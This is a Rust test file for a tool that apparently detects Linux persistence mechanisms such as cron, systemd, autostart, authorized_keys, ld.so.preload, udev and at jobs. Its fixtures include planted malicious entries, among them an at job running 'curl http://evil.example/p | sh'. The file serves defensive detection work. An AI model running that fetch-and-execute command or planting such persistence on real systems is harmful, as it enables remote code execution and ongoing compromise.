use serde_json::{Value, json};

use super::*;
use crate::commands::linux::fixture::{self, ALICE_ED25519_FP, AT_JOB, BACKUP_RSA_FP};
use crate::commands::testutil;
use crate::model::Status;

fn summary(e: &Value) -> Value {
    json!([e["mechanism"], e["location"], e["owner"], e["command"]])
}

#[tokio::test]
async fn lists_every_mechanism_of_the_fixture() {
    let tmp = fixture::build();
    let o = fixture::run(tmp.path(), "persistence", &[]).await;
    assert_eq!(o.status, Status::Ok, "{}", o.error);
    let out = o.output.unwrap();
    let me = fixture::own_name(tmp.path());
    let entries = out["entries"].as_array().unwrap();
    let got: Vec<Value> = entries.iter().map(summary).collect();
    let backup_key = format!(
        "ssh-rsa {BACKUP_RSA_FP} backup@server [options: command=\"/usr/local/bin/backup-only --dir \\\"/srv\\\"\",no-pty,from=\"10.0.0.0/8\"]"
    );
    assert_eq!(
        got,
        [
            json!([
                "cron",
                "/etc/crontab",
                "root",
                "cd / && run-parts --report /etc/cron.hourly"
            ]),
            json!([
                "cron",
                "/etc/crontab",
                "root",
                "test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily"
            ]),
            json!([
                "cron",
                "/etc/cron.d/backup",
                "root",
                "/usr/local/bin/backup.sh --full"
            ]),
            json!([
                "cron",
                "/etc/cron.d/backup",
                "bob",
                "/home/bob/.local/bin/agent"
            ]),
            json!([
                "cron",
                "/var/spool/cron/crontabs/alice",
                "alice",
                "/home/alice/bin/sync.sh >/dev/null 2>&1"
            ]),
            json!([
                "cron",
                "/etc/cron.daily/logrotate",
                "root",
                "/etc/cron.daily/logrotate"
            ]),
            json!([
                "systemd_service",
                "/etc/systemd/system/evil.service",
                "nobody",
                "/opt/evil/run  --quiet"
            ]),
            json!([
                "systemd_service",
                "/lib/systemd/system/ssh.service",
                "root",
                "/tmp/.x/sshd -D"
            ]),
            json!([
                "systemd_timer",
                "/etc/systemd/system/evil.timer",
                "nobody",
                "/opt/evil/run  --quiet"
            ]),
            json!([
                "xdg_autostart",
                "/etc/xdg/autostart/updater.desktop",
                me,
                "/opt/updater --background"
            ]),
            json!([
                "xdg_autostart",
                "/home/alice/.config/autostart/evil.desktop",
                "alice",
                "/home/alice/.cache/.x/evil"
            ]),
            json!(["shell_startup", "/etc/profile", me, "/etc/profile"]),
            json!(["shell_startup", "/etc/bash.bashrc", me, "/etc/bash.bashrc"]),
            json!([
                "shell_startup",
                "/etc/profile.d/evil.sh",
                me,
                "/etc/profile.d/evil.sh"
            ]),
            json!(["shell_startup", "/etc/zsh/zshrc", me, "/etc/zsh/zshrc"]),
            json!([
                "shell_startup",
                "/home/alice/.bashrc",
                "alice",
                "/home/alice/.bashrc"
            ]),
            json!([
                "shell_startup",
                "/home/bob/.zshrc",
                "bob",
                "/home/bob/.zshrc"
            ]),
            json!(["rc_local", "/etc/rc.local", me, "/opt/evil/start &"]),
            json!(["init_d", "/etc/init.d/evil", me, "/etc/init.d/evil"]),
            json!([
                "authorized_keys",
                "/home/alice/.ssh/authorized_keys",
                "alice",
                format!("ssh-ed25519 {ALICE_ED25519_FP} alice@laptop")
            ]),
            json!([
                "authorized_keys",
                "/home/alice/.ssh/authorized_keys",
                "alice",
                backup_key
            ]),
            json!([
                "ld_so_preload",
                "/etc/ld.so.preload",
                me,
                "/usr/lib/libevil.so"
            ]),
            json!(["ld_so_preload", "/etc/ld.so.preload", me, "/lib/x.so"]),
            json!(["ld_so_preload", "/etc/ld.so.preload", me, "/lib/y.so"]),
            json!([
                "udev",
                "/lib/udev/rules.d/60-vendor.rules",
                me,
                "KERNEL==\"sd*\", PROGRAM=\"/lib/udev/scsi_id -g $devnode\", RESULT==\"1*\""
            ]),
            json!([
                "udev",
                "/etc/udev/rules.d/99-evil.rules",
                me,
                "ACTION==\"add\", SUBSYSTEM==\"usb\", RUN+=\"/opt/evil/usb.sh\""
            ]),
            json!([
                "at_job",
                format!("/var/spool/cron/atjobs/{AT_JOB}"),
                "alice",
                "curl http://evil.example/p | sh"
            ]),
        ]
    );
    for e in entries {
        assert!(e["modified"].as_str().unwrap().ends_with('Z'), "{e}");
        assert_eq!(e["details"]["file_owner"], me.as_str(), "{e}");
    }
    let find = |mech: &str, n: usize| {
        entries
            .iter()
            .filter(|e| e["mechanism"] == mech)
            .nth(n)
            .unwrap()
    };
    assert_eq!(find("cron", 3)["details"]["schedule"], "@reboot");
    assert_eq!(find("cron", 5)["details"]["kind"], "cron_script");
    assert_eq!(
        find("systemd_service", 1)["details"]["drop_ins"],
        json!(["/etc/systemd/system/ssh.service.d/override.conf"])
    );
    assert_eq!(
        find("systemd_timer", 0)["details"]["schedule"],
        "OnCalendar=hourly; OnBootSec=5min"
    );
    assert_eq!(find("rc_local", 0)["details"]["executable"], true);
    let key = &find("authorized_keys", 1)["details"];
    assert_eq!(key["line"], 4);
    assert_eq!(key["key_type"], "ssh-rsa");
    assert_eq!(key["fingerprint"], BACKUP_RSA_FP);
    assert_eq!(key["comment"], "backup@server");
    assert_eq!(
        key["options"],
        "command=\"/usr/local/bin/backup-only --dir \\\"/srv\\\"\",no-pty,from=\"10.0.0.0/8\""
    );
    assert_eq!(find("ld_so_preload", 0)["details"]["exists"], false);
    assert_eq!(find("udev", 1)["details"]["line"], 2);
    let at = &find("at_job", 0)["details"];
    assert_eq!(at["queue"], "a");
    assert_eq!(at["job"], 2);
    assert_eq!(
        at["run_at"],
        jiff::Timestamp::from_second(0x01c7_e7d4 * 60)
            .unwrap()
            .to_string()
    );

    let errors: Vec<Value> = out["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| json!([e["path"], e["reason"].as_str().unwrap().split(':').next()]))
        .collect();
    assert_eq!(
        errors,
        [
            json!(["/etc/cron.d/backup", "line 3"]),
            json!(["/home/alice/.ssh/authorized_keys", "line 5"])
        ]
    );
    assert_eq!(out["truncated"], false);
}

/// What an integration test plants: a cron file and a key in an otherwise empty root.
#[tokio::test]
async fn a_planted_cron_file_and_key_are_found_in_a_bare_root() {
    let tmp = tempfile::tempdir().unwrap();
    let r = tmp.path();
    fixture::write(r, "/etc/passwd", "root:x:0:0:root:/root:/bin/sh\n");
    fixture::write(r, "/etc/cron.d/planted", "* * * * * root /tmp/planted\n");
    fixture::write(
        r,
        "/root/.ssh/authorized_keys",
        &format!("{}\n", fixture::ALICE_ED25519),
    );
    let o = fixture::run(r, "persistence", &[]).await;
    assert_eq!(o.status, Status::Ok, "{}", o.error);
    let out = o.output.unwrap();
    let got: Vec<Value> = out["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(summary)
        .collect();
    assert_eq!(
        got,
        [
            json!(["cron", "/etc/cron.d/planted", "root", "/tmp/planted"]),
            json!([
                "authorized_keys",
                "/root/.ssh/authorized_keys",
                "root",
                format!("ssh-ed25519 {ALICE_ED25519_FP} alice@laptop")
            ]),
        ]
    );
    assert_eq!(out["errors"], json!([]));
}

#[tokio::test]
async fn the_executor_runs_commands_under_its_system_root() {
    use crate::executor::ExecutorHandle;
    use crate::fencing::StateStore;
    use crate::model::Invocation;
    use crate::sys::root::SystemRoot;

    let tmp = fixture::build();
    let state = tempfile::tempdir().unwrap();
    let (store, persisted) = StateStore::open(state.path()).unwrap();
    let work = crate::transfer::put::WorkDir::new(
        state.path().join("work"),
        crate::transfer::put::volatile::Volatile::new(state.path(), &SystemRoot::new(tmp.path())),
    );
    let (exec, join) = ExecutorHandle::spawn(
        store,
        persisted,
        SystemRoot::new(tmp.path()),
        work,
        crate::fencing::DEFAULT_HELD_RESULT_BYTES,
    );
    let (tx, mut rx) = tokio::sync::mpsc::unbounded_channel();
    exec.submit(
        Invocation {
            command_id: "p1".into(),
            session_id: "s".into(),
            token: 1,
            command: "persistence".into(),
            args: vec![],
            cwd: "/".into(),
            timeout: None,
        },
        tx,
    )
    .await;
    let done = tokio::time::timeout(std::time::Duration::from_secs(30), rx.recv())
        .await
        .unwrap()
        .unwrap();
    assert_eq!(done.outcome.status, Status::Ok, "{}", done.outcome.error);
    let out = done.outcome.output.unwrap();
    assert!(
        out["entries"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["location"] == "/var/spool/cron/crontabs/alice"),
        "{out}"
    );
    drop(exec);
    join.await.unwrap();
}

#[test]
fn udev_keys_that_run_programs() {
    assert!(runs_program("ACTION==\"add\", RUN+=\"/x\""));
    assert!(runs_program("RUN=\"/x\""));
    assert!(runs_program("RUN{program}+=\"/x\""));
    assert!(runs_program("IMPORT{program}=\"/x\""));
    assert!(runs_program("PROGRAM==\"/x\""));
    assert!(!runs_program("ENV{RUN}=\"1\", NAME=\"x\""));
    assert!(!runs_program("IMPORT{builtin}=\"usb_id\""));
    assert_eq!(
        udev_rules("# c\nA==\"1\", \\\n  RUN+=\"/x\"\n\nB=\"2\"\n"),
        [
            (2, "A==\"1\", RUN+=\"/x\"".to_owned()),
            (5, "B=\"2\"".to_owned())
        ]
    );
}

#[test]
fn key_file_patterns_expand_like_sshd() {
    let home = Path::new("/home/al");
    assert_eq!(
        expand_key_file("%h/.ssh/k", "al", home),
        Some(PathBuf::from("/home/al/.ssh/k"))
    );
    assert_eq!(
        expand_key_file("/etc/ssh/keys/%u", "al", home),
        Some(PathBuf::from("/etc/ssh/keys/al"))
    );
    assert_eq!(
        expand_key_file(".ssh/k2", "al", home),
        Some(PathBuf::from("/home/al/.ssh/k2"))
    );
    assert_eq!(expand_key_file("/k/%U", "al", home), None);
}

#[tokio::test]
async fn sshd_config_key_files_are_read() {
    let tmp = fixture::build();
    let r = tmp.path();
    fixture::write(
        r,
        "/etc/ssh/sshd_config",
        "AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u\nMatch User bob\n  AuthorizedKeysFile /never\n",
    );
    fixture::write(
        r,
        "/etc/ssh/keys/bob",
        &format!("{}\n", fixture::BACKUP_RSA),
    );
    let o = fixture::run(r, "persistence", &[]).await;
    let out = o.output.unwrap();
    let bob: Vec<&Value> = out["entries"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["location"] == "/etc/ssh/keys/bob")
        .collect();
    assert_eq!(bob.len(), 1, "{out}");
    assert_eq!(bob[0]["owner"], "bob");
}

#[tokio::test]
async fn live_run_returns_a_result() {
    let o = testutil::run("persistence", "/", &[]).await;
    assert_eq!(o.status, Status::Ok, "{}", o.error);
    let out = o.output.unwrap();
    assert!(
        out["entries"].is_array() && out["errors"].is_array(),
        "{out}"
    );
}

#[tokio::test]
async fn a_cancelled_run_is_reported_as_cancelled_with_what_it_had() {
    let tmp = fixture::build();
    let ctx = fixture::ctx(tmp.path());
    ctx.cancel();
    let o = crate::commands::execute(ctx, "persistence", vec![]).await;
    assert_eq!(o.status, Status::Cancelled, "{}", o.error);
    assert!(o.output.unwrap()["entries"].is_array());
}

proptest::proptest! {
    /// Whatever bytes the files hold, the parsers answer without panicking.
    #[test]
    fn parsers_never_panic_on_arbitrary_text(text in "(?s).{0,400}", name in ".{0,20}") {
        use crate::commands::linux::{cron, cronexpr::Schedule, systemd::UnitFile};
        let _ = cron::parse(&text, true);
        let _ = cron::parse(&text, false);
        let _ = Schedule::parse(&text);
        let _ = UnitFile::parse(&text).list("Service", "ExecStart");
        let _ = authkeys::parse(&text);
        let _ = atjob::parse(&text);
        let _ = atjob::parse_name(&name);
        let _ = udev_rules(&text);
        let _ = runs_program(&text);
        let _ = expand_key_file(&text, &name, Path::new("/h"));
    }

    /// Cron-looking lines in particular: random fields of digits and cron punctuation.
    #[test]
    fn cron_like_schedules_never_panic(fields in proptest::collection::vec("[0-9*/,a-z-]{1,12}", 5)) {
        let expr = fields.join(" ");
        if let Ok(s) = crate::commands::linux::cronexpr::Schedule::parse(&expr) {
            let _ = s.next_after(jiff::Timestamp::UNIX_EPOCH, &jiff::tz::TimeZone::UTC);
        }
    }
}
